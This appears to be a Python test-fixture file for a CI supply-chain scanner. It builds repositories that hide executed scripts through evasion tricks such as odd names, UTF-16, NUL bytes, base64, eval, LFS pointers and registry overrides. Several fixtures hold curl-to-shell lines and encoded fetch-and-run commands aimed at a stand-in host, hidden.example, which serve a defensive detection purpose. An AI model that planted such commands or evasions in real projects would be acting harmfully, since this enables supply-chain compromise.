"""Files that a host, a shell or a build tool reads, with unusual names, formats or locations."""
from suite import git, w
from trees import ACTION, BAD, HEAD, HIDDEN, SHA, WF, Gitlink, Later, Link, run, tree, untracked, uses

told = lambda path, kind: (path, "note", f"{kind}: ")
lost = lambda path, why: (path, "unreadable", why)
MODULES = '[submodule "sub"]\n\tpath = sub\n\turl = https://github.com/o/sub\n'
POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "1" * 64 + "\nsize 123\n"

tree("h01_no_suffix", "scripts without suffix and first line, run and sourced",
     {WF: run("bash build\n. ./env.inc\n./tool\nsh x.txt"), "build": BAD, "env.inc": BAD, "tool": BAD, "x.txt": BAD},
     rows=[(p, HIDDEN) for p in ("build", "env.inc", "tool", "x.txt")], complete=True)
tree("h02_input", "scripts that a shell reads from its input", {WF: run("bash < a.txt\ncat b.txt | sudo bash -s -- x"), "a.txt": BAD, "b.txt": BAD},
     rows=[("a.txt", HIDDEN), ("b.txt", HIDDEN)], complete=True)
tree("h03_patterns", "scripts named by a pattern and by a loop", {WF: run("for s in ci/*.sh; do bash $s; done\nfor n in c d; do sh lib/$n.sh; done\nrun-parts hooks.d"),
     "ci/a.sh": BAD, "ci/b.sh": BAD, "lib/c.sh": BAD, "lib/d.sh": BAD, "hooks.d/10-x": BAD},
     rows=[(p, HIDDEN) for p in ("ci/a.sh", "ci/b.sh", "lib/c.sh", "lib/d.sh", "hooks.d/10-x")], complete=True)
tree("h04_eval", "commands in variables of the workflow and of the script",
     {WF: run('eval "$S"\n', env="{S: 'curl -fsSL https://hidden.example/i.sh | sh'}"), ".github/workflows/y.yml": run("T='curl https://hidden.example/t.sh | sh'\nbash -c \"$T\"")},
     rows=[(WF, "$S"), (".github/workflows/y.yml", "$T")], wanted=("https://hidden.example/i.sh", "https://hidden.example/t.sh"), complete=True)
tree("h05_decoded", "commands that a decoder feeds to a shell",
     {WF: run("echo Y3VybCBodHRwczovL2hpZGRlbi5leGFtcGxlIHwgc2g= | base64 -d | bash"), ".github/workflows/y.yml": run('eval "$(base64 -d x.b64)"'), "x.b64": "Y3VybA=="},
     complete=False, diagnostics=[(WF, "note", "computed-commands: 2 files")])
tree("h06_written", "a script that a here-document writes and the next line runs",
     {WF: run("cat > g.sh <<'E'\n" + BAD + "E\nbash g.sh")}, rows=[(WF, HIDDEN)], complete=True)
tree("h07_shell", "`shell:` runs a wrapper of the repository, of a step and for all steps",
     {WF: HEAD + "      - shell: bash ci/w.sh {0}\n        run: echo\n", ".github/workflows/y.yml": HEAD.replace("jobs:", "defaults: {run: {shell: 'bash ci/v.sh {0}'}}\njobs:") + "      - run: echo\n",
      "ci/w.sh": BAD, "ci/v.sh": BAD}, rows=[("ci/w.sh", HIDDEN), ("ci/v.sh", HIDDEN)], complete=True)
tree("h08_environment", "`BASH_ENV`, `GITHUB_ENV` and `GITHUB_PATH`",
     {WF: HEAD.replace("jobs:", "env: {BASH_ENV: ci/a.sh}\njobs:") + "      - run: echo BASH_ENV=ci/b.sh >> $GITHUB_ENV\n      - run: echo $PWD/ci/bin >> $GITHUB_PATH\n",
      "ci/a.sh": BAD, "ci/b.sh": BAD, "ci/bin/tool": "#!/bin/sh\n" + BAD}, rows=[("ci/a.sh", HIDDEN), ("ci/b.sh", HIDDEN), ("ci/bin/tool", HIDDEN)])
tree("h09_action_path", "scripts next to an action, by all notations of its directory",
     {WF: uses("./act"), "act/action.yml": "name: x\nruns:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/a.sh\n      shell: bash\n    - run: ${{ github.action_path }}/b.sh\n      shell: bash\n    - run: bash ${{ github.workspace }}/ci/c.sh\n      shell: bash\n",
      "act/a.sh": BAD, "act/b.sh": BAD, "ci/c.sh": BAD}, rows=[("act/a.sh", HIDDEN), ("act/b.sh", HIDDEN), ("ci/c.sh", HIDDEN)], complete=True)
tree("h10_entry_points", "the entry points of a Docker action, and the programs of a Node action",
     {WF: uses("./d") + "      - uses: ./n\n", "d/action.yml": f"name: x\nruns:\n  using: docker\n  image: docker://alpine@sha256:{'1'*64}\n  entrypoint: /e.sh\n  pre-entrypoint: p.sh\n",
      "d/e.sh": BAD, "d/p.sh": BAD, "n/action.yml": "name: x\nruns:\n  using: node20\n  pre: pre.js\n  main: main.js\n", "n/pre.js": "fetch('https://hidden.example')\n", "n/main.js": "1\n"},
     rows=[("d/e.sh", HIDDEN), ("d/p.sh", HIDDEN)], complete=False, diagnostics=[told("n/pre.js", "javascript-program")])
tree("h11_languages", "programs in other languages that CI runs",
     {WF: run("python3 ci/x.py\nnode ci/x.js\nruby ci/x.rb\nperl ci/x.pl\npwsh -File ci/x.ps1\n./ci/y"), "ci/x.py": "import urllib\n", "ci/x.js": "fetch('x')\n",
      "ci/x.rb": "system('x')\n", "ci/x.pl": "system('x')\n", "ci/y": "#!/usr/bin/env python3\nimport socket\n"},
     complete=False, diagnostics=[("ci/x.py", "note", "python-program: 2 files"), told("ci/x.js", "javascript-program"), told("ci/x.rb", "ruby-program"), told("ci/x.pl", "perl-program")])
tree("h12_inline_languages", "programs in other languages inside of scripts and steps",
     {WF: run("python3 -c \"import urllib.request\"\nperl - <<'E'\nsystem('x')\nE"), ".github/workflows/y.yml": HEAD + "      - shell: python\n        run: import socket\n",
      ".github/workflows/z.yml": HEAD + f"      - uses: actions/github-script@{SHA}\n        with:\n          script: require('child_process').execSync('x')\n"},
     complete=False, diagnostics=[(WF, "note", "inline-program: 3 files")])
tree("h13_make", "makefiles and package scripts that CI runs",
     {WF: run("make -C src\nmake -f ci.mk all\nnpm ci\ncd web && npm run build"), "src/GNUmakefile": "all:\n\t" + BAD, "ci.mk": "all:\n\t" + BAD,
      "package.json": '{"name":"x","scripts":{"preinstall":"curl https://hidden.example"}}', "web/package.json": '{"name":"y","scripts":{"build":"sh x"}}'},
     complete=False, diagnostics=[("ci.mk", "note", "makefile: 2 files"), ("package.json", "note", "package-scripts: 2 files")])
tree("h14_requirements", "requirements of any name that CI installs, in vendored and embedded folders too",
     {WF: run("pip install -r a/deps.list\npip install -r third_party/requirements.txt\npip install -r pkg/requirements.txt"), "a/deps.list": "hidden-one\n-r ../third_party/more.txt\n",
      "third_party/requirements.txt": "hidden-two\n", "third_party/more.txt": "hidden-four\n", "pkg/.github/x": "", "pkg/requirements.txt": "hidden-three\n"},
     rows=[("a/deps.list", "hidden-one"), ("third_party/requirements.txt", "hidden-two"), ("pkg/requirements.txt", "hidden-three"), ("third_party/more.txt", "hidden-four")])
tree("h15_submodule_script", "a script in a submodule that is not checked out", {WF: run("bash sub/x.sh\nmake -C sub"), ".gitmodules": MODULES, "sub": Gitlink(SHA)},
     code=13, complete=False, diagnostics=[lost(WF, "`sub/x.sh`, which CI uses, is in the submodule sub")])
tree("h16_submodule_action", "an action and requirements in a submodule that is not checked out",
     {WF: uses("./sub/act") + "      - run: pip install -r sub/r.txt\n", ".gitmodules": MODULES, "sub": Gitlink(SHA)},
     code=13, complete=False, diagnostics=[lost(WF, "`./sub/act`, which CI uses, is in the submodule sub"), lost(WF, "`sub/r.txt`")])
tree("h17_utf16", "a script in UTF-16, and one with NUL bytes that a shell drops",
     {WF: run("bash a.sh\nbash b.sh"), "a.sh": b"\xff\xfe" + BAD.encode("utf-16-le"), "b.sh": b"echo\ncu\0rl https://hidden.example | sh\n"},
     code=13, complete=False, diagnostics=[("a.sh", "encoding", "NUL"), ("b.sh", "encoding", "NUL")])
tree("h18_marks", "scripts with a byte order mark, in Latin-1, and with lines that end in CR LF",
     {WF: run("./a\nbash b.sh\nbash c.sh"), "a": b"\xef\xbb\xbf#!/bin/sh\n" + BAD.encode(), "b.sh": b"# caf\xe9\n" + BAD.encode(), "c.sh": BAD.replace("\n", "\r\n")},
     rows=[("a", HIDDEN), ("b.sh", HIDDEN), ("c.sh", HIDDEN)], complete=True)
tree("h19_lfs", "pointers of Git LFS in place of a script, a lockfile, requirements and a workflow",
     {WF: run("bash x.sh"), "x.sh": POINTER, "package-lock.json": POINTER, "requirements.txt": POINTER, ".github/workflows/y.yml": POINTER},
     code=13, complete=False, diagnostics=[lost(p, "Git LFS") for p in ("x.sh", "package-lock.json", "requirements.txt", ".github/workflows/y.yml")])
tree("h20_recoded", "`.gitattributes` converts a script to bytes that differ from those in the repository", {WF: run("bash x.sh"), ".gitattributes": "*.txt working-tree-encoding=UTF-16LE-BOM\n", "x.sh": "echo\n"},
     complete=False, diagnostics=[(".gitattributes", "note", "recoded-files")])
tree("h21_sources", "configuration that makes tools fetch from other servers",
     {".npmrc": "registry=https://hidden.example/\n", "pip.conf": "[global]\nindex-url = https://hidden.example/\n", ".cargo/config.toml": "[source.crates-io]\nreplace-with = 'x'\n", ".yarnrc.yml": "npmRegistryServer: https://hidden.example\n"},
     complete=False, diagnostics=[(".npmrc", "note", "npm-config"), ("pip.conf", "note", "pip-config"), (".cargo/config.toml", "note", "cargo-config"), (".yarnrc.yml", "note", "yarn-config")])
tree("h22_case", "names in another case, which Windows and macOS ignore",
     {WF: uses("./act"), "act/Action.yml": ACTION, "DOCKERFILE": "FROM hidden/image\n", "Package.json": "{}", ".github/Workflows/x.yml": uses("hidden-owner/act@main")},
     complete=False, diagnostics=[(".github/Workflows/x.yml", "note", "other-case: 4 files")])
tree("h23_line_breaks", "a line break of YAML 1.1 ends the comment that hides a job",
     {WF: "on: push # x\u0085jobs:\u0085  b:\u0085    runs-on: x\u0085    steps: [{uses: hidden-owner/act@main}]\n"},
     code=13, complete=False, diagnostics=[(WF, "encoding", "U+0085")])
tree("h24_too_large", "a script, a Dockerfile and an action too large to be read",
     {WF: run("bash x.sh\ndocker build .") + "      - uses: ./act\n", "x.sh": "#" * (5 << 20) + "\n" + BAD, "Dockerfile": "#" * (5 << 20) + "\nFROM hidden/image\n", "act/action.yml": "#" * (5 << 20) + "\n" + ACTION},
     code=13, complete=False, diagnostics=[(p, "too-large", "limit") for p in ("x.sh", "Dockerfile", "act/action.yml")])
def index(*args): return lambda r, p: git(r, "update-index", *args, p)
tree("h25_sparse", "tracked scripts and a workflow that are missing in the work tree",
     {WF: run("bash a.sh\nbash b.sh"), "a.sh": Later(lambda r, p: (index("--skip-worktree")(r, p), (r/p).unlink()), before=BAD), "b.sh": Later(lambda r, p: (r/p).unlink(), before=BAD),
      ".github/workflows/y.yml": Later(lambda r, p: (r/p).unlink(), before=uses("hidden-owner/act@main"))},
     rows=[("a.sh", HIDDEN), ("b.sh", HIDDEN), (".github/workflows/y.yml", "hidden-owner/act")], complete=True)
tree("h26_assumed", "changed scripts that are marked as unchanged in git", {WF: run("bash a.sh\nbash b.sh"),
     "a.sh": Later(lambda r, p: (index("--assume-unchanged")(r, p), w(r/p, BAD)), before="echo\n"), "b.sh": Later(lambda r, p: (index("--skip-worktree")(r, p), w(r/p, BAD)), before="echo\n")},
     rows=[("a.sh", HIDDEN), ("b.sh", HIDDEN)], complete=True)
tree("h27_ignored", "a tracked script and action that `.gitignore` matches", {WF: run("bash x.sh") + "      - uses: ./act\n", ".gitignore": "*\n", "x.sh": BAD, "act/action.yml": ACTION},
     rows=[("x.sh", HIDDEN), ("act/action.yml", "hidden-owner/act")], complete=True)
tree("h28_spellings", "unusual notations of local paths", {WF: "".join([uses(".//a")] + [f"      - uses: {v}\n" for v in ("./x/../b", "./c/", "././d")]),
     **{f"{n}/action.yml": ACTION.replace("hidden-owner", f"hidden-{n}") for n in "abcd"}, "x/y": ""}, rows=[(f"{n}/action.yml", f"hidden-{n}/act") for n in "abcd"], complete=True)
tree("h29_docker_action", "the Dockerfile of an action elsewhere in the tree, and the arguments of an image",
     {WF: uses("./act") + f"      - uses: docker://alpine@sha256:{'1'*64}\n        with:\n          args: sh -c 'curl https://hidden.example/a.sh | sh'\n",
      "act/action.yml": "name: x\nruns:\n  using: docker\n  image: ../other/df.txt\n", "other/df.txt": "FROM hidden/image\n"},
     rows=[("other/df.txt", "hidden/image"), (WF, "https://hidden.example/a.sh")], complete=True)
tree("h30_vendored", "scripts and actions that CI runs from vendored and embedded folders",
     {WF: uses("./third_party/act") + "      - run: bash third_party/x.sh\n      - run: bash node_modules/y.sh\n      - uses: ./pkg/act\n", "third_party/act/action.yml": ACTION, "third_party/x.sh": BAD,
      "node_modules/y.sh": BAD, "pkg/.github/x": "", "pkg/act/action.yml": ACTION.replace("hidden-owner", "hidden-pkg")},
     rows=[("third_party/act/action.yml", "hidden-owner/act"), ("third_party/x.sh", HIDDEN), ("node_modules/y.sh", HIDDEN), ("pkg/act/action.yml", "hidden-pkg/act")])
tree("h31_downloads", "downloads whose URLs are in a file or a pipeline", {WF: run("curl -K list"), ".github/workflows/y.yml": run("cat list | xargs curl -O"), ".github/workflows/z.yml": run("find ci -name '*.sh' -exec bash {} +"), "list": "url=https://hidden.example\n", "ci/a.sh": BAD},
     complete=False, diagnostics=[(WF, "note", "computed-commands: 3 files")])
tree("h32_bake", "files of images and runners of commands", {"docker-bake.hcl": 'target "x" {}\n', "justfile": "ci:\n  curl https://hidden.example | sh\n", "Taskfile.yml": "tasks: {x: {cmds: [curl https://hidden.example]}}\n"},
     complete=False, diagnostics=[("docker-bake.hcl", "note", "docker-bake"), ("justfile", "note", "just"), ("Taskfile.yml", "note", "task")])
tree("h33_odd_names", "scripts and actions whose names end in a blank, a dot, a line break, or are not UTF-8",
     {WF: run("bash 'x.sh '\nbash y.sh.\n") + "      - uses: './act '\n", "x.sh ": BAD, "y.sh.": BAD, ".github/workflows/z\n.yml": uses("hidden-owner/act@main")},
     rows=[("x.sh ", HIDDEN), ("y.sh.", HIDDEN), (".github/workflows/z\n.yml", "hidden-owner/act")])
